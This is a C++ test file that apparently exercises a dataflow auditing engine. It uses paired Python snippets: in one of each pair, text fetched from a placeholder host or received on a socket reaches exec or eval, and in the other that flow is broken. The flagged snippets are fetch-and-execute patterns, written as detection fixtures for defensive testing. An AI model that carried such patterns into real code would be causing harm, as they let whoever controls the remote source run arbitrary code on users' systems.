#include "trust/audit/engine/test_programs.h"

// Values that go through statements.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"If", R"py(
import requests
def run(remote):
    code = "1"
    if remote:
        code = requests.get("https://a.example").text  # from
    exec(code)  # to)py",
     R"py(
import requests
def run(remote):
    code = "1"
    if remote:
        page = requests.get("https://a.example").text
        return page
    exec(code))py"},
    {"OtherBranchReturns", R"py(
import requests
def run(remote):
    code = requests.get("https://a.example").text  # from
    if not remote:
        return
    exec(code)  # to)py",
     R"py(
import requests
def run(remote):
    code = requests.get("https://a.example").text
    if remote:
        return code
    code = "1"
    exec(code))py"},
    {"Elif", R"py(
import requests
def run(kind):
    if kind == 1:
        code = "1"
    elif kind == 2:
        code = requests.get("https://a.example").text  # from
    else:
        code = "2"
    exec(code)  # to)py",
     R"py(
import requests
def run(kind):
    if kind == 1:
        code = "1"
    elif kind == 2:
        code = str(len(requests.get("https://a.example").text))
    else:
        code = "2"
    exec(code))py"},
    {"Among", R"py(
import requests
def run(url, others):
    mode = requests.get(url).text  # from
    if mode in ("True", "False") or mode in others:
        eval(mode)  # to)py",
     R"py(
import requests
def run(url):
    mode = requests.get(url).text
    if mode in ("True", "False"):
        return eval(mode)
    return mode)py"},
    {"NotAmong", R"py(
import requests
def run(url, others):
    mode = requests.get(url).text  # from
    if mode not in others:
        raise ValueError(mode)
    eval(mode)  # to)py",
     R"py(
import requests
MODES = ["0", "1"]
def run(url):
    mode = requests.get(url).text
    if mode not in MODES:
        raise ValueError(mode)
    eval(mode))py"},
    {"Equal", R"py(
import requests
def run(url, other):
    code = requests.get(url).text  # from
    if code != other:
        exec(code)  # to)py",
     R"py(
import requests
def run(url):
    code = requests.get(url).text
    if not (code == "1" and url):
        return
    exec(code))py"},
    {"Ternary", R"py(
import requests
def run(remote):
    exec(requests.get("https://a.example").text if remote else "1")  # to # from)py",
     R"py(
import requests
def run(remote):
    exec("1" if requests.get("https://a.example").text else "2"))py"},
    {"Or", R"py(
import requests
def run(code):
    exec(None or requests.get("https://a.example").text)  # to # from)py",
     R"py(
import requests
def run(code):
    exec("1" if None or requests.get("https://a.example").text else "2"))py"},
    {"LoopCarries", R"py(
import requests
def run():
    a = b = c = "1"
    while True:
        exec(c)  # to
        c = b
        b = a
        a = requests.get("https://a.example").text  # from)py",
     R"py(
import requests
def run():
    a = b = c = "1"
    while True:
        exec(c)
        c = b
        b = "2"
        a = requests.get("https://a.example").text)py"},
    {"WhileAdds", R"py(
import urllib.request
def run():
    code = b""
    stream = urllib.request.urlopen("https://a.example")  # from
    while True:
        chunk = stream.read(1024)
        if not chunk:
            break
        code += chunk
    exec(code)  # to)py",
     R"py(
import urllib.request
def run():
    size = 0
    stream = urllib.request.urlopen("https://a.example")
    while True:
        chunk = stream.read(1024)
        if not chunk:
            break
        size += len(chunk)
    exec(str(size)))py"},
    {"SocketLoop", R"py(
import socket
def serve():
    server = socket.socket()
    server.bind(("", 80))
    server.listen()
    while True:
        connection, address = server.accept()
        data = connection.recv(1024)  # from
        if data:
            exec(data)  # to)py",
     R"py(
import socket
def serve():
    server = socket.socket()
    server.bind(("", 80))
    server.listen()
    while True:
        connection, address = server.accept()
        data = connection.recv(1024)
        if data:
            exec("1"))py"},
    {"ForElse", R"py(
import requests
def run(urls):
    for url in urls:
        if url:
            break
    else:
        exec(requests.get("https://a.example").text)  # to # from)py",
     R"py(
import requests
def run(urls):
    for url in urls:
        page = requests.get("https://a.example").text
    else:
        exec("1"))py"},
    {"With", R"py(
import urllib.request
with urllib.request.urlopen("https://a.example") as answer:  # from
    exec(answer.read())  # to)py",
     R"py(
import urllib.request
with urllib.request.urlopen("https://a.example") as answer, open("a.txt") as other:
    exec("1"))py"},
    {"WithSession", R"py(
import requests
with requests.Session() as session:
    exec(session.get("https://a.example").text)  # to # from)py",
     R"py(
import requests
with requests.Session() as session:
    exec(str(len(session.get("https://a.example").text))))py"},
    {"ContextManager", R"py(
from contextlib import contextmanager
import requests
@contextmanager
def page(url):
    yield requests.get(url).text  # from
with page("https://a.example") as code:
    exec(code)  # to)py",
     R"py(
from contextlib import contextmanager
import requests
@contextmanager
def page(url):
    requests.get(url).text
    yield "1"
with page("https://a.example") as code:
    exec(code))py"},
    {"ExitStack", R"py(
import contextlib, urllib.request
with contextlib.ExitStack() as stack:
    answer = stack.enter_context(urllib.request.urlopen("https://a.example"))  # from
    exec(answer.read())  # to)py",
     R"py(
import contextlib, urllib.request
with contextlib.ExitStack() as stack:
    answer = stack.enter_context(urllib.request.urlopen("https://a.example"))
    exec(str(len(answer.read()))))py"},
    {"Try", R"py(
import requests
try:
    code = requests.get("https://a.example").text  # from
except Exception:
    code = "1"
exec(code)  # to)py",
     R"py(
import requests
try:
    page = requests.get("https://a.example").text
    code = "2"
except Exception:
    code = "1"
exec(code))py"},
    {"Except", R"py(
import requests
def run():
    try:
        code = open("a.txt").name
    except OSError:
        code = requests.get("https://a.example").text  # from
    exec(code)  # to)py",
     R"py(
import requests
def run():
    try:
        code = "1"
    except OSError:
        code = requests.get("https://a.example").text
        return code
    exec(code))py"},
    {"Finally", R"py(
import requests
def run():
    code = "1"
    try:
        code = requests.get("https://a.example").text  # from
    finally:
        exec(code)  # to)py",
     R"py(
import requests
def run():
    code = "1"
    try:
        page = requests.get("https://a.example").text
    finally:
        exec(code))py"},
    {"TryElse", R"py(
import requests
try:
    page = requests.get("https://a.example").text  # from
except OSError:
    pass
else:
    exec(page)  # to)py",
     R"py(
import requests
try:
    page = requests.get("https://a.example").text
except OSError:
    pass
else:
    exec("1"))py"},
    {"ExceptStar", R"py(
import requests
def run():
    try:
        page = requests.get("https://a.example").text  # from
    except* OSError as group:
        page = "1"
    exec(page)  # to)py",
     R"py(
import requests
def run():
    try:
        page = requests.get("https://a.example").text
    except* OSError as group:
        exec("1"))py"},
    {"Raised", R"py(
import requests
class Page(Exception): pass
def fetch():
    raise Page(requests.get("https://a.example").text)  # from
try:
    fetch()
except Page as page:
    exec(page.args[0])  # to)py",
     R"py(
import requests
class Page(Exception): pass
def fetch():
    raise Page("1")
try:
    requests.get("https://a.example").text
    fetch()
except Page as page:
    exec(page.args[0]))py"},
    {"Match", R"py(
import requests
def run():
    match requests.get("https://a.example").json():  # from
        case {"code": code}:
            exec(code)  # to)py",
     R"py(
import requests
def run():
    match requests.get("https://a.example").json():
        case {"code": code}:
            exec("1"))py"},
    {"MatchAs", R"py(
import requests
def run():
    match ("1", requests.get("https://a.example").text):  # from
        case [str() as first, str() as second]:
            exec(second)  # to)py",
     R"py(
import requests
def run():
    page = requests.get("https://a.example").text
    match ("1", "2"):
        case [str() as first, str() as second]:
            exec(second))py"},
    {"MatchAssigns", R"py(
import requests
def run(kind):
    match kind:
        case 1:
            code = "1"
        case _:
            code = requests.get("https://a.example").text  # from
    exec(code)  # to)py",
     R"py(
import requests
def run(kind):
    match kind:
        case 1:
            code = "1"
        case _:
            code = requests.get("https://a.example").text
            return
    exec(code))py"},
    {"DeletedNames", R"py(
import requests
page = requests.get("https://a.example").text  # from
code = page
del page
exec(code)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
code = "1"
del page
exec(code))py"},
    {"MainGuard", R"py(
import requests
def main():
    exec(requests.get("https://a.example").text)  # to # from
if __name__ == "__main__":
    main())py",
     R"py(
import requests
def main():
    print(requests.get("https://a.example").text)
if __name__ == "__main__":
    main())py"},
    {"Overwritten", R"py(
import requests
page = "1"
page = requests.get("https://a.example").text  # from
exec(page)  # to)py",
     R"py(
import requests
page = requests.get("https://a.example").text
page = "1"
exec(page))py"},
    {"AugmentedSubscript", R"py(
import requests
parts = {"code": ""}
parts["code"] += requests.get("https://a.example").text  # from
exec(parts["code"])  # to)py",
     R"py(
import requests
parts = {"code": "", "page": ""}
parts["page"] += requests.get("https://a.example").text
exec(parts["code"]))py"},
};

INSTANTIATE_TEST_SUITE_P(Control, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
